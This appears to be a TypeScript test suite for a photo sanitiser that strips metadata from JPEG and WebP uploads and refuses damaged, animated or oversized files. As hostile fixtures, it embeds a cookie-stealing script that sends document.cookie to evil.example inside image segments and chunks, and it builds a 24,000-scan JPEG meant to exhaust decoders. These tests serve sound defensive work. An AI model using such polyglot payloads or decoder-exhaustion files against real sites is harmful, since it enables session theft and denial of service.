/**
 * The photo parser on its own (worker/photos/bytes.ts): hand-made files for the cases sharp
 * does not write (animation, metadata between scans, bytes after the end, a missing height), and
 * random damage to real files, which must only ever be refused with a sentence or cleaned.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { PHOTO_MAX_SIDE } from "#shared/schemas/limits";
import { cleanPhoto, MAX_JPEG_SEGMENTS_OF_A_KIND, PhotoRefusal } from "../photos/bytes";
import type { PhotoFixtureName } from "./photo-fixtures.global";
import { bytesNoDecoderNeeds, contains, jpegMarkersBeforeScan, photoFixture, webpChunks, withExtraSegments } from "./photo-helpers";

const ALL_GOOD: PhotoFixtureName[] = ["gpsJpeg", "jpeg", "progressiveJpeg", "webp", "losslessWebp", "gpsWebp"];

const join = (...parts: ArrayLike<number>[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};
const text = (s: string) => new TextEncoder().encode(s);
/** A JPEG segment: marker, length, payload. */
const segment = (marker: number, payload: Uint8Array) =>
  join([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 0xff], payload);

/** A RIFF WebP of the given chunks, each padded to an even length. */
const riff = (...chunks: [string, Uint8Array][]) => {
  const body = join(...chunks.flatMap(([name, data]) => [text(name), u32(data.length), data, new Uint8Array(data.length & 1)]));
  return join(text("RIFF"), u32(body.length + 4), text("WEBP"), body);
};
const u32 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, n >>> 24];
/** The chunks of a WebP file by name (the first of each). */
function chunksOf(b: Uint8Array): Record<string, Uint8Array> {
  const out: Record<string, Uint8Array> = {};
  const view = new DataView(b.buffer, b.byteOffset, b.byteLength);
  for (let at = 12; at + 8 <= b.length;) {
    const size = view.getUint32(at + 4, true);
    out[String.fromCharCode(...b.subarray(at, at + 4))] ??= b.subarray(at + 8, at + 8 + size);
    at += 8 + size + (size & 1);
  }
  return out;
}
/** Where the first segment with this marker starts in a JPEG. */
const markerAt = (b: Uint8Array, marker: number) => b.findIndex((v, i) => v === 0xff && b[i + 1] === marker);
const PAGE = text("<html><script>fetch('https://evil.example/?c='+document.cookie)</script></html>");

function refusal(bytes: Uint8Array): PhotoRefusal {
  try {
    cleanPhoto(bytes);
  } catch (err) {
    expect(err).toBeInstanceOf(PhotoRefusal);
    return err as PhotoRefusal;
  }
  throw new Error("expected a refusal");
}

describe("cleanPhoto", () => {
  it("is idempotent: a cleaned file comes back byte for byte, with the same size", () => {
    for (const name of ALL_GOOD) {
      const once = cleanPhoto(photoFixture(name));
      const twice = cleanPhoto(once.bytes);
      expect(twice.bytes, name).toEqual(once.bytes);
      expect([twice.width, twice.height], name).toEqual([once.width, once.height]);
    }
    expect(cleanPhoto(photoFixture("gpsJpeg"))).toMatchObject({ type: "image/jpeg", extension: "jpg", width: 640, height: 480 });
    expect(cleanPhoto(photoFixture("losslessWebp"))).toMatchObject({ type: "image/webp", extension: "webp", width: 200, height: 150 });
  });

  it("drops APPn segments and comments found between the scans of a progressive JPEG, and bytes after the end", () => {
    const original = photoFixture("progressiveJpeg");
    // Put an EXIF segment and a comment before the second scan, and a trailer after EOI.
    let secondScan = -1;
    for (let i = 2, scans = 0; i < original.length - 1; i++) {
      if (original[i] === 0xff && original[i + 1] === 0xda && ++scans === 2) {
        secondScan = i;
        break;
      }
    }
    expect(secondScan).toBeGreaterThan(0);
    const exif = segment(0xe1, text("Exif\0\0GPS hidden between scans"));
    const comment = segment(0xfe, text("Shot at 12 Hidden Lane"));
    const hostile = join(original.subarray(0, secondScan), exif, comment, original.subarray(secondScan), text("TRAILER: more GPS"));
    const clean = cleanPhoto(hostile);
    expect(clean.bytes).toEqual(original);
    for (const needle of ["Exif", "Hidden", "TRAILER"]) expect(contains(clean.bytes, needle), needle).toBe(false);
  });

  it("keeps no APP14 either, not even a plain Adobe colour marker: a three-component JPEG reads as YCbCr without it", () => {
    const original = photoFixture("jpeg");
    for (const extra of [text("hidden words"), new Uint8Array(0)]) {
      const adobe = segment(0xee, join(text("Adobe"), [0, 100, 0, 0, 0, 0, 1], extra));
      const withAdobe = join(original.subarray(0, 2), adobe, original.subarray(2));
      expect(cleanPhoto(withAdobe).bytes).toEqual(cleanPhoto(original).bytes);
    }
  });

  it("refuses an animated WebP, a JPEG whose height comes later, and either kind cut anywhere", () => {
    const vp8x = join(text("VP8X"), [10, 0, 0, 0], [0x02, 0, 0, 0], [99, 0, 0], [99, 0, 0]);
    const animated = join(text("RIFF"), [vp8x.length + 4, 0, 0, 0], text("WEBP"), vp8x);
    expect(refusal(animated)).toMatchObject({ status: 400, code: "photo_animated" });

    const jpeg = photoFixture("jpeg");
    const sof = jpeg.findIndex((b, i) => b === 0xff && jpeg[i + 1] === 0xc0);
    const noHeight = jpeg.slice();
    noHeight[sof + 5] = 0;
    noHeight[sof + 6] = 0;
    expect(refusal(noHeight)).toMatchObject({ status: 400, code: "photo_damaged" });

    for (const name of ["jpeg", "webp", "gpsWebp", "losslessWebp"] as const) {
      const whole = photoFixture(name);
      for (let cut = 1; cut < whole.length; cut += 97) {
        const err = refusal(whole.subarray(0, cut));
        expect(err.message, `${name} cut at ${cut}`).toMatch(/^[A-Z].*\.$/);
      }
    }
  });

  it(`takes exactly ${PHOTO_MAX_SIDE} pixels and refuses ${PHOTO_MAX_SIDE + 1}`, () => {
    const jpeg = photoFixture("jpeg");
    const sof = jpeg.findIndex((b, i) => b === 0xff && jpeg[i + 1] === 0xc0);
    const sized = (w: number, h: number) => {
      const copy = jpeg.slice();
      copy.set([h >> 8, h & 0xff, w >> 8, w & 0xff], sof + 5);
      return copy;
    };
    expect(cleanPhoto(sized(PHOTO_MAX_SIDE, PHOTO_MAX_SIDE))).toMatchObject({ width: PHOTO_MAX_SIDE, height: PHOTO_MAX_SIDE });
    expect(refusal(sized(PHOTO_MAX_SIDE + 1, 10))).toMatchObject({ status: 400, code: "photo_too_many_pixels" });
    expect(refusal(sized(10, PHOTO_MAX_SIDE + 1))).toMatchObject({ status: 400, code: "photo_too_many_pixels" });
  });

  it("random damage to real files is refused with a sentence or cleaned, never anything else", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...ALL_GOOD),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
        (name, changes) => {
          const bytes = photoFixture(name).slice();
          for (const [at, value] of changes) bytes[at % bytes.length] = value;
          let clean;
          try {
            clean = cleanPhoto(bytes);
          } catch (err) {
            expect(err).toBeInstanceOf(PhotoRefusal);
            expect((err as PhotoRefusal).message).toMatch(/^[A-Z].*\.$/);
            return;
          }
          expect(clean.width).toBeLessThanOrEqual(PHOTO_MAX_SIDE);
          expect(clean.height).toBeLessThanOrEqual(PHOTO_MAX_SIDE);
          expect(cleanPhoto(clean.bytes).bytes).toEqual(clean.bytes);
          if (clean.type === "image/jpeg")
            expect(jpegMarkersBeforeScan(clean.bytes).filter((m) => /^E[0-9A-D]|^EF|^FE/.test(m))).toEqual([]);
          else expect(webpChunks(clean.bytes).filter((c) => !["VP8X", "ALPH", "VP8 ", "VP8L"].includes(c))).toEqual([]);
          expect(bytesNoDecoderNeeds(clean.bytes)).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("random bytes are refused with a sentence", () => {
    fc.assert(
      fc.property(
        fc.uint8Array({ maxLength: 2000 }),
        fc.constantFrom([], [0xff, 0xd8, 0xff], [...text("RIFF"), 0, 0, 0, 0, ...text("WEBP")]),
        (tail, head) => {
          const err = refusal(join(head, tail));
          expect([400, 415]).toContain(err.status);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe("only what a decoder needs is stored", () => {
  const jpeg = () => photoFixture("jpeg");
  const afterSoi = (...parts: ArrayLike<number>[]) => join(jpeg().subarray(0, 2), ...parts, jpeg().subarray(2));
  const stored = (bytes: Uint8Array) => {
    const clean = cleanPhoto(bytes);
    expect(bytesNoDecoderNeeds(clean.bytes)).toEqual([]);
    expect(contains(clean.bytes, "<html>")).toBe(false);
    return clean.bytes;
  };

  it("a JPEG with a 0xFFF0 segment holding a web page is stored without it", () => {
    const hostile = afterSoi(segment(0xf0, PAGE));
    expect(contains(hostile, "<html><script>")).toBe(true);
    expect(stored(hostile)).toEqual(cleanPhoto(jpeg()).bytes);
  });

  it("JPG0-JPG13, reserved markers, APPn and comments are left out wherever they sit", () => {
    for (const marker of [0xf0, 0xf7, 0xfd, 0x02, 0x4f, 0xbf, 0xe0, 0xef, 0xfe, 0xdc, 0xcc, 0xc8, 0xde, 0xdf]) {
      expect(stored(afterSoi(segment(marker, PAGE))), marker.toString(16)).toEqual(cleanPhoto(jpeg()).bytes);
      const progressive = photoFixture("progressiveJpeg");
      const secondScan = progressive.findIndex((v, i) => v === 0xff && progressive[i + 1] === 0xda && i > markerAt(progressive, 0xda));
      const between = join(progressive.subarray(0, secondScan), segment(marker, PAGE), progressive.subarray(secondScan));
      expect(stored(between), marker.toString(16)).toEqual(progressive);
    }
  });

  it("restart and TEM markers outside a scan, and fill bytes before markers and inside a scan, are left out", () => {
    const original = jpeg();
    const eoi = original.length - 2;
    const filled = join(
      original.subarray(0, 2),
      [0xff, 0xd0, 0xff, 0x01, 0xff, 0xff, 0xff],
      original.subarray(2, eoi),
      [0xff, 0xff, 0xff],
      original.subarray(eoi),
    );
    expect(stored(filled)).toEqual(cleanPhoto(original).bytes);
  });

  it("a table, frame or restart segment longer than what it declares is refused, not stored", () => {
    const original = jpeg();
    for (const marker of [0xdb, 0xc4, 0xc0, 0xda]) {
      const at = markerAt(original, marker);
      const length = (original[at + 2] << 8) | original[at + 3];
      const longer = join(
        original.subarray(0, at),
        [0xff, marker, (length + PAGE.length) >> 8, (length + PAGE.length) & 0xff],
        original.subarray(at + 4, at + 2 + length),
        PAGE,
        original.subarray(at + 2 + length),
      );
      expect(refusal(longer), marker.toString(16)).toMatchObject({ status: 400, code: "photo_damaged" });
    }
    expect(refusal(afterSoi(segment(0xdd, join([0, 4], PAGE))))).toMatchObject({ status: 400, code: "photo_damaged" });
    expect(stored(afterSoi(segment(0xdd, new Uint8Array([0, 4])))).length).toBe(cleanPhoto(original).bytes.length + 6);
  });

  it("CMYK, lossless and arithmetic-coded JPEGs are refused with a sentence", () => {
    const original = jpeg();
    const sof = markerAt(original, 0xc0);
    for (const marker of [0xc3, 0xc9, 0xcb, 0xcf]) {
      const other = original.slice();
      other[sof + 1] = marker;
      expect(refusal(other).message, marker.toString(16)).toMatch(/^This JPEG is of a kind browsers do not show/);
    }
  });

  it("a WebP's VP8X is written anew: ten bytes, no reserved bit, no metadata flag", () => {
    const { VP8X: vp8x, "VP8 ": vp8, ALPH: alph } = chunksOf(photoFixture("gpsWebp"));
    const longer = riff(["VP8X", join(vp8x, PAGE)], ["ALPH", alph], ["VP8 ", vp8]);
    const dirty = vp8x.slice();
    dirty[0] |= 0xc1 | 0x2c; // reserved bits and the ICC, EXIF and XMP flags
    dirty.set([0x3c, 0x68, 0x74], 1);
    const reserved = riff(["VP8X", dirty], ["ALPH", alph], ["VP8 ", vp8]);
    for (const hostile of [longer, reserved]) {
      const clean = stored(hostile);
      expect(webpChunks(clean)).toEqual(["VP8X", "ALPH", "VP8 "]);
      expect(chunksOf(clean).VP8X).toEqual(join([0x10, 0, 0, 0], vp8x.subarray(4, 10)));
    }
  });

  it("a WebP keeps no unknown chunk, no bytes after its RIFF, and raw alpha only as long as the picture", () => {
    const { VP8X: vp8x, "VP8 ": vp8 } = chunksOf(photoFixture("gpsWebp"));
    const plain = photoFixture("webp");
    expect(stored(join(plain, PAGE))).toEqual(plain);
    const unknown = riff(["HTML", PAGE], ["VP8 ", chunksOf(plain)["VP8 "]]);
    expect(() => cleanPhoto(unknown)).toThrow(PhotoRefusal); // the picture must come first in a simple WebP
    const inside = riff(["VP8X", vp8x], ["HTML", PAGE], ["VP8 ", vp8], ["EXIF", PAGE]);
    expect(webpChunks(stored(inside))).toEqual(["VP8X", "VP8 "]);
    const pixels = 300 * 300;
    const rawAlpha = join([0xc0], new Uint8Array(pixels).fill(0x80), PAGE);
    const clean = stored(riff(["VP8X", vp8x], ["ALPH", rawAlpha], ["VP8 ", vp8]));
    expect(chunksOf(clean).ALPH.length).toBe(1 + pixels);
    expect(chunksOf(clean).ALPH[0]).toBe(0);
  });
});

describe("scans and tables are bounded: each costs every visitor's decoder a pass", () => {
  const scansOf = (b: Uint8Array) => b.filter((v, i) => v === 0xff && b[i + 1] === 0xda).length;
  /** The whole first segment with this marker, as it stands in the file. */
  const firstSegment = (b: Uint8Array, marker: number) => {
    const at = markerAt(b, marker);
    return b.subarray(at, at + 2 + ((b[at + 2] << 8) | b[at + 3]));
  };
  const tooMany = (bytes: Uint8Array, what: RegExp) => {
    const err = refusal(bytes);
    expect(err).toMatchObject({ status: 400, code: "photo_too_many_segments" });
    expect(err.message).toMatch(/^This photo is a JPEG with more than 100 /);
    expect(err.message).toMatch(what);
  };

  it("the outside test's file: 1024 × 1024, progressive, 24,000 scans in about 290 kB, is refused", () => {
    const hostile = withExtraSegments(photoFixture("progressiveJpeg1024"), 24_000);
    expect(hostile.length).toBeGreaterThan(270_000);
    expect(hostile.length).toBeLessThanOrEqual(300_000);
    expect(scansOf(hostile)).toBeGreaterThan(24_000);
    tooMany(hostile, /100 scans;/);
  });

  it("3,000 scans, and one scan over the bound, are refused; a file at the bound is kept whole", () => {
    const base = photoFixture("progressiveJpeg1024");
    tooMany(withExtraSegments(base, 3_000), /scans/);
    const room = MAX_JPEG_SEGMENTS_OF_A_KIND - scansOf(base);
    expect(room).toBeGreaterThan(80); // the real file has about ten
    tooMany(withExtraSegments(base, room + 1), /scans/);
    const atBound = withExtraSegments(base, room);
    expect(scansOf(cleanPhoto(atBound).bytes)).toBe(MAX_JPEG_SEGMENTS_OF_A_KIND);
    expect(cleanPhoto(atBound).bytes).toEqual(atBound);
  });

  it("a baseline JPEG given 101 scans is refused too", () => {
    tooMany(withExtraSegments(photoFixture("jpeg"), MAX_JPEG_SEGMENTS_OF_A_KIND), /scans/);
  });

  it("101 Huffman table, quantisation table or restart interval segments are refused", () => {
    const base = photoFixture("progressiveJpeg");
    tooMany(withExtraSegments(base, MAX_JPEG_SEGMENTS_OF_A_KIND + 1, firstSegment(base, 0xc4)), /Huffman table segments/);
    tooMany(withExtraSegments(base, MAX_JPEG_SEGMENTS_OF_A_KIND + 1, firstSegment(base, 0xdb)), /quantisation table segments/);
    tooMany(withExtraSegments(base, MAX_JPEG_SEGMENTS_OF_A_KIND + 1, [0xff, 0xdd, 0x00, 0x04, 0x00, 0x00]), /restart interval segments/);
    // The same segments just within the bound are kept.
    const tables = withExtraSegments(base, 50, firstSegment(base, 0xdb));
    expect(cleanPhoto(tables).bytes).toEqual(tables);
  });

  it("segments that are left out (comments, APPn) do not count, however many", () => {
    const base = photoFixture("progressiveJpeg");
    const comments = withExtraSegments(base, 5_000, segment(0xfe, text("hi")));
    expect(cleanPhoto(comments).bytes).toEqual(cleanPhoto(base).bytes);
  });
});
